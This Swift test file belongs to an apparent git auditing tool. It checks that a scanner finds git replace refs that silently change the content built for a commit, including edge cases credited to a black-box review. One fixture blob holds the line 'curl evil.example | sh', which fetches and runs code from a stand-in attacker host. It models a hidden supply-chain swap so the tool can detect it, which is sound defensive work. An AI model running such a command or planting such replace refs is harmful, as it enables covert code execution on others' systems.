import Foundation
import GitFacts
import Testing
import TestSupport
@testable import AuditCore

/// `ReplaceRefs.Scanner`: which replace refs change what git builds for a commit, reading trees
/// only for replaced trees and blobs.
@Suite struct ReplaceRefsScannerTests {
    @Test func findsReplacedCommitsBlobsAndMissingObjectsByTheirReplacement() throws {
        try withTemporaryDirectory { dir in
            let git = try GitRepo.create(in: dir)
            let first = try git.commit("one", files: ["a.txt": "a\n", "dir/b.txt": "b\n"])
            let release = try git.commit("two", files: ["c.txt": "c\n"])
            let blob = try git.revParse("\(release):dir/b.txt")
            let other = try git.hashObject(type: "blob", "other\n")
            // A tree whose entry names a blob that is not here, replaced by a blob that is.
            let missing = String(repeating: "ab", count: 20)
            let tree = try git.git(["mktree", "--missing"], stdin: "100644 blob \(missing)\tgone.txt\n")
            let odd = try git.git("commit-tree", tree, "-m", "odd")
            try git.git("replace", blob, other)
            try git.git("update-ref", "refs/replace/\(missing)", other)
            // A missing object replaced by a commit cannot make a tree read other bytes.
            try git.git("update-ref", "refs/replace/\(String(repeating: "cd", count: 20))", first)
            try git.git("replace", first, release)
            let repo = try Repository(at: git.path)
            var scanner = ReplaceRefs.Scanner(refs: try repo.facts().replaceRefs)
            #expect(try scanner.touching(commits: [try ObjectID(hex: release)], in: repo) == ["refs/replace/\(blob)"])
            #expect(try scanner.touching(commits: [try ObjectID(hex: first)], in: repo).sorted() == ["refs/replace/\(blob)", "refs/replace/\(first)"])
            #expect(try scanner.touching(commits: [try ObjectID(hex: odd)], in: repo) == ["refs/replace/\(missing)"])
        }
    }

    /// Found by the black-box review: a tree entry with a file mode may name a commit, which git
    /// reads through its replace ref without checking the type.
    @Test func aCommitNamedAsAFileIsSearchedFor() throws {
        try withTemporaryDirectory { dir in
            let git = try GitRepo.create(in: dir)
            let other = try git.commit("other", files: ["x": "x\n"])
            // git mktree refuses a commit id under a blob mode, so the tree is made in a repository
            // that lacks the commit, and its loose objects are copied over.
            let maker = try GitRepo.create(in: dir, name: "maker")
            let withCommit = try maker.git(["mktree", "--missing"], stdin: "100644 blob \(other)\tpayload.sh\n")
            let release = try maker.git("commit-tree", withCommit, "-m", "release")
            for id in [withCommit, release] {
                let relative = "objects/\(id.prefix(2))/\(id.dropFirst(2))"
                let target = git.url.appendingPathComponent(".git/\(relative)")
                try? FileManager.default.createDirectory(at: target.deletingLastPathComponent(), withIntermediateDirectories: true)
                try FileManager.default.copyItem(at: maker.url.appendingPathComponent(".git/\(relative)"), to: target)
            }
            try git.git("update-ref", "refs/replace/\(other)", try git.hashObject(type: "blob", "curl evil.example | sh\n"))
            let repo = try Repository(at: git.path)
            var scanner = ReplaceRefs.Scanner(refs: try repo.facts().replaceRefs)
            #expect(try scanner.touching(commits: [try ObjectID(hex: release)], in: repo) == ["refs/replace/\(other)"])
        }
    }

    /// Found by the black-box review: git reads the replaced object's id from the last path
    /// component's first 40 hex characters, so these names replace it too.
    @Test func replaceRefNamesAreReadAsGitReadsThem() throws {
        let hex = String(repeating: "ab", count: 20)
        for name in ["refs/replace/\(hex)", "refs/replace/innocent/\(hex)", "refs/replace/\(hex)-x", "refs/replace/\(hex.uppercased())"] {
            #expect(ReplaceRefs.replacedObjects([name]).keys.map(\.hex) == [hex], "\(name)")
        }
        for name in ["refs/replace/\(hex.dropLast())", "refs/replace/\(hex)/x", "refs/replace/zz\(hex.dropFirst(2))"] {
            #expect(ReplaceRefs.replacedObjects([name]).isEmpty, "\(name)")
        }
    }
}
